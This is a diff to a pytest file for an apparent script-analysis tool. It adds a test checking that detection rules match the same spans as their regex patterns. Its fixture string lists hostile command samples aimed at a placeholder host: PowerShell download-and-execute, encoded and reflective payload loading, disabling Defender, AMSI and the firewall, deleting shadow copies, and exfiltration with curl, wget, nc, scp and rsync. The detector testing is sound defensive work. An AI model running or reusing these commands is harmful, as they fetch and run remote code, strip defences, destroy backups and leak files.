@@ -7,11 +7,12 @@ import time
 import pytest
 
 from stockade import limits
-from stockade.analyse.files import members
+from stockade.analyse.files import members, script_rules
 from stockade.analyse.files.facts import Deed
 from stockade.analyse.files.members import Texts
 from stockade.analyse.files.script_text import Language, Script, script_language, text_of
 from stockade.analyse.files.scripts import deeds
+from stockade.analyse.marks.kinds import Rule
 from stockade.model.artifact import Kind, Member
 from stockade.model.evidence import GapKind, Phase
 
@@ -175,3 +176,31 @@ def test_more_words_than_any_script_has_are_a_gap() -> None:
 def test_texts_beyond_any_command_name_nothing() -> None:
     scripts = _scripts("demo/run.sh", _PIPE)
     assert scripts.named([(" " * members._SPOKEN + "run.sh", Phase.IMPORT)]) == {}
+
+
+#: Text with a match of each alternative of the rules that know how their matches begin, and more that nearly match.
+_BEGUN = """
+iex (iwr https://a.invalid/x); IEX(New-Object Net.WebClient).DownloadString('https://a.invalid/y')
+(New-Object Net.WebClient).DownloadString('https://a.invalid/z') | iex
+[ScriptBlock]::Create((irm https://a.invalid/q)); Invoke-Expression (Invoke-RestMethod https://a.invalid/r)
+powershell -enc QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD
+[Reflection.Assembly]::Load([Convert]::FromBase64String($p)); FromBase64String($p) | iex
+Invoke-WebRequest https://a.invalid/f -OutFile f.exe; $c.DownloadFile('https://a.invalid/g', 'g.exe')
+Start-BitsTransfer https://a.invalid/h -Destination h.exe
+Set-MpPreference -DisableRealtimeMonitoring 1; Add-MpPreference -ExclusionPath C:; [Ref].amsiInitFailed
+sc.exe stop WinDefend; sc config windefend; netsh advfirewall set allprofiles state off; vssadmin delete shadows
+[char]65+[char](0x42)+[char] 67; i`e`x ``a
+curl https://a.invalid -d @f; wget --post-file=f https://a.invalid; cat f | nc a.invalid 1; | curl
+scp f me@a.invalid:f; rsync -a f me@a.invalid:f
+"""
+
+
+@pytest.mark.parametrize("text", [_BEGUN, _BEGUN.upper(), _BEGUN.replace(" ", "  "), f"\u0130{_BEGUN}"])
+@pytest.mark.parametrize(
+    "rule", [one for one in vars(script_rules).values() if isinstance(one, Rule) and one.heads is not None]
+)
+def test_a_rule_that_knows_how_it_begins_finds_what_its_pattern_finds(rule: Rule, text: str) -> None:
+    script = Script(text, Language.JAVASCRIPT)  # of which nothing is left out
+    found = [match.span() for match in script.all(rule)]
+    assert found == [match.span() for match in rule.pattern.finditer(script.text)]
+    assert len(found) > 1
